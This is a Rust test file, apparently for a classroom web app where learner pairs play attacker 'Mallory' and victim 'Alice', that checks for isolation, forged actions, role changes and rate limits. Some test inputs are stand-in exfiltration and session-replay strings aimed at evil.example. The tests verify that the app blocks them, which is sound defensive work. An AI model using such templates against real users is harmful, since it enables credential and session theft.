//! What nobody can do to a pair, from within or from outside.

use http::StatusCode;

use super::{PAGE, act, begin, between, class, id_of, joined, last, logs_in, pair_of, press, room_code, two};
use crate::class::{code, teacher};

#[tokio::test]
async fn mallory_reads_nothing_of_alices_browser_and_alice_nothing_of_mallorys() {
    let (app, room) = class().await;
    let (mallory, alice, pair) = two(&app, &room, "planted").await;
    let page = logs_in(&alice, &pair, "").await;
    let (password, code) = (between(&page, "password <code>", "<").to_owned(), room_code(&page));
    let jar = between(&page, "<ul class=\"jar\">", "</ul>");
    let sid = between(jar, "sid=", "<").to_owned();
    assert!(sid.len() > 8 && password.len() > 8 && code.len() > 5);
    act(&mallory, &pair, &[("do", "send"), ("text", "GET https://hotel.grand.example/")]).await;
    for path in
        [PAGE, "/class", "/inspector", "/api/class", "/api/sandbox", "/class/pair?role=alice", "/class/pair?as=alice"]
    {
        let body = mallory.get(path).await.body;
        for hers in [&password, &code, &sid] {
            assert!(!body.contains(hers.as_str()), "{path} tells {hers}");
        }
    }
    // What she types is not filled in with Alice's, nor played at Alice's browser.
    for text in [
        "GET https://evil.example/{{secret}}",
        "GET https://evil.example/{{alice.password}}",
        "open https://hotel.grand.example/account as alice",
        "GET https://hotel.grand.example/account\nCookie: sid={{alice.session}}",
    ] {
        let body = act(&mallory, &pair, &[("do", "send"), ("text", text)]).await.body;
        assert!(![&password, &code, &sid].iter().any(|hers| body.contains(hers.as_str())), "{text}");
    }
    let body =
        act(&mallory, &pair, &[("do", "letter"), ("says", "x"), ("link", "https://evil.example/{{secret}}")]).await;
    assert!(body.body.contains("not sent") && !body.body.contains(&code));
    let html = "<p>{{alice.password}}</p>";
    let body = act(&mallory, &pair, &[("do", "page"), ("html", html)]).await.body;
    assert!(body.contains("not put up") && !body.contains(&password));
    assert_eq!(last(&room), None);
    // The other way round: neither Mallory's draft nor her jar.
    act(&mallory, &pair, &[("do", "page"), ("html", "<p>a page that only she knows</p>")]).await;
    let body = alice.get(PAGE).await.body;
    assert!(!body.contains("only she knows") && !body.contains("What has come to your host"));
}

#[tokio::test]
async fn nobody_acts_as_another_forges_the_judge_or_changes_roles_alone() {
    let (app, room) = class().await;
    let (mallory, alice, pair) = two(&app, &room, "planted").await;
    let eve = joined(&app, &room, "Eve").await;
    let (number, round) = (pair.number.to_string(), pair.round.to_string());
    // A third learner, with the pair's own numbers.
    for what in ["open", "send", "page", "letter", "follow", "submit", "ready", "leave"] {
        let fields =
            [("do", what), ("pair", &*number), ("round", &*round), ("address", "https://hotel.grand.example/")];
        let answer = press(&eve, &fields).await;
        assert_eq!(answer.status, StatusCode::CONFLICT, "{what}: {}", answer.body);
    }
    // The other role's acts.
    for (who, what) in [(&alice, "send"), (&alice, "page"), (&alice, "letter"), (&mallory, "follow")] {
        let answer =
            press(who, &[("do", what), ("pair", &number), ("round", &round), ("n", "1"), ("role", "mallory")]).await;
        assert_eq!(answer.status, StatusCode::UNPROCESSABLE_ENTITY, "{what}: {}", answer.body);
    }
    // Another pair's number, and a round that is none.
    for (number, round) in
        [("1", &*round), ("18446744073709551615", &*round), (&*number, "7"), (&*number, "x"), ("", "")]
    {
        let answer = press(&mallory, &[("do", "open"), ("pair", number), ("round", round)]).await;
        assert_eq!(answer.status, StatusCode::CONFLICT, "{number} {round}");
    }
    // The judge, roles and answers as changes of the class.
    let mina = id_of(&room, "Mina");
    let (mina, jonas) = (mina.as_str(), id_of(&room, "Jonas"));
    for text in [
        format!(r#"{{"does":"over","pair":{number},"round":{round},"end":"mallory","seconds":1}}"#),
        format!(r#"{{"does":"ready","pair":{number},"learner":"{mina}","round":{round},"process":""}}"#),
        format!(r#"{{"does":"leave","learner":"{mina}"}}"#),
        format!(r#"{{"does":"answer","learner":"{mina}","from":"{}","yes":true,"process":""}}"#, jonas.as_str()),
    ] {
        let body = format!(r#"{{"what":"pair","act":{text}}}"#);
        for who in [&eve, &alice, &mallory] {
            assert_eq!(who.post("/api/class/changes", &body).await.status, StatusCode::FORBIDDEN, "{text}");
        }
        let teacher = teacher(&app, &room).await;
        assert_eq!(teacher.post("/api/class/changes", &body).await.status, StatusCode::UNPROCESSABLE_ENTITY, "{text}");
    }
    for what in ["over", "win", "gather", "draw", "judge", ""] {
        let answer = press(&mallory, &[("do", what), ("pair", &number), ("round", &round), ("end", "mallory")]).await;
        assert_eq!(answer.status, StatusCode::UNPROCESSABLE_ENTITY, "{what}: {}", answer.body);
    }
    // Roles by one alone, as often as one likes.
    for _ in 0..3 {
        press(&alice, &[("do", "ready"), ("pair", &number), ("round", &round)]).await;
    }
    let now = pair_of(&room, "Mina").unwrap();
    assert_eq!((now.round, now.mallory, now.rounds.len()), (pair.round, pair.mallory, 0));
    assert_eq!(app.another().form(PAGE, &[("do", "lot")]).await.status, StatusCode::FORBIDDEN, "a stranger");
}

#[tokio::test]
async fn nobody_says_yes_in_anothers_name_or_is_paired_unasked() {
    let (app, room) = class().await;
    let (mina, jonas, eve) =
        (joined(&app, &room, "Mina").await, joined(&app, &room, "Jonas").await, joined(&app, &room, "Eve").await);
    let (mina_id, jonas_id) = (id_of(&room, "Mina"), id_of(&room, "Jonas"));
    press(&mina, &[("do", "ask"), ("to", jonas_id.as_str()), ("weak", "hidden")]).await;
    let answer = press(&eve, &[("do", "yes"), ("from", mina_id.as_str()), ("learner", jonas_id.as_str())]).await;
    assert_eq!(answer.status, StatusCode::CONFLICT, "{}", answer.body);
    let answer = press(&mina, &[("do", "yes"), ("from", mina_id.as_str())]).await;
    assert_eq!(answer.status, StatusCode::CONFLICT);
    assert!(["Mina", "Jonas", "Eve"].iter().all(|name| pair_of(&room, name).is_none()));
    for (to, weak) in [("", "hidden"), ("nobody", "hidden"), (jonas_id.as_str(), "all"), (mina_id.as_str(), "hidden")] {
        assert!(
            press(&mina, &[("do", "ask"), ("to", to), ("weak", weak)]).await.status.is_client_error(),
            "{to} {weak}"
        );
    }
    press(&jonas, &[("do", "no"), ("from", mina_id.as_str())]).await;
    assert!(mina.get(PAGE).await.body.contains("takes no part this time"));
    // The teacher's lot: Jonas has not pressed.
    let teacher = teacher(&app, &room).await;
    press(&teacher, &[("do", "gather"), ("on", "yes")]).await;
    for who in [&mina, &eve] {
        press(who, &[("do", "lot")]).await;
    }
    assert!(mina.get(PAGE).await.body.contains("2 take part"));
    assert_eq!(press(&mina, &[("do", "draw"), ("weak", "hidden")]).await.status, StatusCode::CONFLICT);
    let answer = press(&teacher, &[("do", "draw"), ("weak", "hidden")]).await;
    assert_eq!(answer.status, StatusCode::SEE_OTHER, "{}", answer.body);
    assert!(pair_of(&room, "Mina").is_some() && pair_of(&room, "Jonas").is_none());
    assert!(teacher.get(PAGE).await.body.contains("One of these: find out"));
    // Now the lot pairs at once; one waits, and is told by whom there is.
    press(&jonas, &[("do", "lot")]).await;
    assert!(jonas.get(PAGE).await.body.contains("Whoever takes part next"));
}

#[tokio::test]
async fn leaving_removal_and_the_next_group_end_a_pair_and_are_told() {
    let (app, room) = class().await;
    let (mallory, alice, pair) = two(&app, &room, "hidden").await;
    press(&alice, &[("do", "leave")]).await;
    let page = mallory.get(PAGE).await.body;
    assert!(page.contains("has left your pair"), "{page}");
    let fields = [
        ("do", "open"),
        ("pair", &*pair.number.to_string()),
        ("round", "1"),
        ("address", "https://hotel.grand.example/"),
    ];
    assert_eq!(press(&mallory, &fields).await.status, StatusCode::CONFLICT);
    assert_eq!(press(&alice, &[("do", "leave")]).await.status, StatusCode::CONFLICT, "both leave");
    press(&mallory, &[("do", "lot")]).await;
    press(&alice, &[("do", "lot")]).await;
    let again = begin(&mallory, &alice, &room).await;
    let teacher = teacher(&app, &room).await;
    let gone = again.members[0].as_str();
    teacher.post("/api/class/changes", &format!(r#"{{"what":"remove","learner":"{gone}"}}"#)).await;
    let pages = [mallory.get(PAGE).await, alice.get(PAGE).await];
    assert!(pages.iter().any(|page| page.body.contains("has left your pair")), "the one who stays is told");
    assert!(pages.iter().any(|page| page.status != StatusCode::OK), "who was removed is out");
    // The teacher's reset during a round.
    let (app, room) = class().await;
    let (mallory, alice, pair) = two(&app, &room, "hidden").await;
    let teacher = crate::class::teacher(&app, &room).await;
    assert!(teacher.post("/api/class/reset", "{}").await.status.is_success());
    let (number, round) = (pair.number.to_string(), pair.round.to_string());
    for who in [&mallory, &alice] {
        let fields =
            [("do", "open"), ("pair", &*number), ("round", &*round), ("address", "https://hotel.grand.example/")];
        assert_eq!(press(who, &fields).await.status, StatusCode::FORBIDDEN);
    }
    assert_eq!(room.class.state().pairs().iter().count(), 0);
    assert!(!code(&room).is_empty());
}

#[tokio::test]
async fn a_thousand_requests_are_told_to_wait_and_both_at_once_are_one_round() {
    let (app, room) = class().await;
    let (mallory, alice, pair) = two(&app, &room, "counting").await;
    let (number, round) = (pair.number.to_string(), pair.round.to_string());
    let fields = [("do", "open"), ("pair", &*number), ("round", &*round), ("address", "https://hotel.grand.example/")];
    let mut waits = 0;
    for _ in 0..60 {
        waits += usize::from(press(&mallory, &fields).await.status == StatusCode::TOO_MANY_REQUESTS);
    }
    assert!(waits > 10, "{waits}");
    let long = "x".repeat(20_000);
    for (field, what) in [("address", "open"), ("says", "letter"), ("html", "page"), ("text", "send")] {
        let answer = press(&alice, &[("do", what), ("pair", &number), ("round", &round), (field, &long)]).await;
        assert!(answer.status == StatusCode::UNPROCESSABLE_ENTITY, "{what}: {}", answer.status);
    }
    let open = [("do", "open"), ("pair", &*number), ("round", &*round), ("address", "https://hotel.grand.example/")];
    let (one, other) = tokio::join!(press(&alice, &open), alice.get(PAGE));
    assert_eq!((one.status, other.status), (StatusCode::SEE_OTHER, StatusCode::OK));
}
